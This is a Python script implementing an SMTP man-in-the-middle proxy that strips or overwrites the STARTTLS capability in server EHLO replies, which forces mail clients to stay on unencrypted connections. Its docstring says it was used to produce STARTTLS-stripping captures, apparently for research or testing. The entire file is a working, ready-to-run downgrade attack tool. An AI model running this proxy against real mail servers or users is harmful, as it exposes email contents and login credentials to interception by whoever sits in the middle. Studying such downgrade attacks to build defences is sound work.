#!/usr/bin/python3
"""Small SMTP man-in-the-middle proxy used to make the STARTTLS-stripping captures.

usage: mitm_proxy.py LISTEN_IP:PORT:MODE [...] --upstream IP:PORT --source IP

MODE strip      removes the "250-STARTTLS" / "250 STARTTLS" line from EHLO replies
                (when it was the last line, the previous line becomes the last one)
MODE overwrite  replaces the STARTTLS keyword with XXXXXXXA (same length)

Server-to-client data is handled line by line until the client sends
STARTTLS (it never does when the keyword is gone); client-to-server data is
relayed unchanged. Standard library only.
"""
import argparse
import socket
import sys
import threading


def relay_c2s(csock, ssock):
    try:
        while True:
            d = csock.recv(65536)
            if not d:
                break
            ssock.sendall(d)
    except OSError:
        pass
    try:
        ssock.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def rewrite_reply(lines, mode):
    """lines: complete lines (bytes, with CRLF) of one multi-line reply."""
    out = []
    for ln in lines:
        body = ln[4:].strip().upper()
        if ln[:3] == b"250" and body == b"STARTTLS":
            if mode == "strip":
                continue
            ln = ln[:4] + ln[4:].replace(b"STARTTLS", b"XXXXXXXA").replace(b"starttls", b"XXXXXXXA")
        out.append(ln)
    if out and mode == "strip":
        # make sure the last line has the final-line separator
        last = out[-1]
        if len(last) > 3 and last[3:4] == b"-":
            out[-1] = last[:3] + b" " + last[4:]
    return b"".join(out)


def relay_s2c(ssock, csock, mode):
    buf = b""
    reply = []
    try:
        while True:
            d = ssock.recv(65536)
            if not d:
                break
            buf += d
            out = b""
            while b"\n" in buf:
                ln, buf = buf.split(b"\n", 1)
                ln += b"\n"
                reply.append(ln)
                if len(ln) >= 4 and ln[3:4] == b" " or len(ln) < 4:
                    out += rewrite_reply(reply, mode)
                    reply = []
            if out:
                csock.sendall(out)
    except OSError:
        pass
    try:
        csock.shutdown(socket.SHUT_WR)
    except OSError:
        pass


def handle(csock, mode, upstream, source):
    ssock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ssock.bind((source, 0))
    ssock.connect(upstream)
    t = threading.Thread(target=relay_c2s, args=(csock, ssock), daemon=True)
    t.start()
    relay_s2c(ssock, csock, mode)
    t.join(30)
    csock.close()
    ssock.close()


def serve(addr, mode, upstream, source):
    ls = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(addr)
    ls.listen(16)
    while True:
        c, _ = ls.accept()
        threading.Thread(target=handle, args=(c, mode, upstream, source), daemon=True).start()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("listen", nargs="+", help="IP:PORT:MODE")
    ap.add_argument("--upstream", required=True)
    ap.add_argument("--source", required=True)
    a = ap.parse_args()
    uh, up = a.upstream.rsplit(":", 1)
    for spec in a.listen:
        ip, port, mode = spec.split(":")
        if mode not in ("strip", "overwrite"):
            sys.exit("bad mode " + mode)
        threading.Thread(target=serve, args=((ip, int(port)), mode, (uh, int(up)), a.source), daemon=True).start()
    print("listening", flush=True)
    threading.Event().wait()


if __name__ == "__main__":
    main()
